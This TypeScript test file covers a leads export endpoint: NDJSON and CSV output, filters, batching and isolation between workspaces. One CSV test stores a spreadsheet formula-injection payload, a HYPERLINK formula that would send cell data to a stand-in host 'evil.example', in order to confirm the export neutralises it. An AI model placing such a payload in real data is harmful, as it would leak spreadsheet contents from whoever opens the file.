// Exporting leads: every matching lead as NDJSON or CSV, the list's filters, batches past the
// first, formula-safe CSV cells, and nobody else's leads.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildWorkspace, type TestWorkspace } from '../../helpers/factories.ts';
import { startTestApp, type TestApp } from '../../helpers/test-app.ts';
import { capture, createBot } from './lead-helpers.ts';

let t: TestApp;
let ws: TestWorkspace;
let sales: string;
let support: string;
beforeAll(async () => {
  t = await startTestApp();
  ws = await buildWorkspace(t.context);
  sales = await createBot(t, ws.liveKey, 'Sales');
  support = await createBot(t, ws.liveKey, 'Support');
});
afterAll(async () => {
  await t.close();
});

function exported(query: string, key = ws.liveKey) {
  return t.request({ url: `/v1/leads/export${query}`, key });
}
const lines = (body: string) => body.split('\n').filter((line) => line !== '');

describe('GET /v1/leads/export', () => {
  it('streams every lead as NDJSON, newest first, as the API shows it, past the first batch', async () => {
    const count = 520;
    for (let i = 0; i < count; i++) {
      const response = await capture(t, ws.liveKey, i % 2 === 0 ? sales : support, {
        email: `visitor${i}@example.com`,
      });
      expect(response.statusCode).toBe(201);
    }
    const response = await exported('');
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('application/x-ndjson');
    expect(response.headers['content-disposition']).toMatch(
      /^attachment; filename="leads-\d{4}-\d{2}-\d{2}\.ndjson"$/,
    );
    const leads = lines(response.body).map((line) => JSON.parse(line));
    expect(leads).toHaveLength(count);
    expect(new Set(leads.map((lead) => lead.id)).size).toBe(count);
    expect(leads[0].email).toBe(`visitor${count - 1}@example.com`);
    const listed = (await t.request({ url: '/v1/leads?page_size=1', key: ws.liveKey })).json().data[0];
    expect(leads[0]).toEqual(listed);

    const ofSales = lines((await exported(`?chatbot_id=${sales}`)).body).map((line) => JSON.parse(line));
    expect(ofSales).toHaveLength(count / 2);
    expect(ofSales.every((lead) => lead.chatbot_id === sales)).toBe(true);
  });

  it('writes CSV with a header, custom fields as JSON, and no cell a spreadsheet would run', async () => {
    const own = await buildWorkspace(t.context);
    const bot = await createBot(t, own.liveKey);
    await capture(t, own.liveKey, bot, {
      email: 'eve@example.com',
      name: '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
      fields: { plan: 'pro' },
    });
    const response = await exported('?format=csv', own.liveKey);
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    const [header, row] = lines(response.body);
    expect(header).toBe(
      'lead_id,chatbot_id,conversation_id,email,name,phone,phone_e164,fields,captured_via,created_at,updated_at',
    );
    expect(row).toContain('eve@example.com');
    expect(row).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&A1,""Click"")"`);
    expect(row).toContain('"{""plan"":""pro""}"');
  });

  it('shows no other workspace’s or environment’s leads, and refuses a bad filter', async () => {
    const other = await buildWorkspace(t.context);
    const body = (await exported('', other.liveKey)).body;
    expect(body).toBe('');
    expect((await exported('', ws.testKey)).body).toBe('');
    const bad = await exported('?format=xlsx');
    expect(bad.statusCode).toBe(400);
    const foreign = await exported(`?chatbot_id=${sales}`, other.liveKey);
    expect(foreign.statusCode).toBe(200);
    expect(foreign.body).toBe('');
  });
});
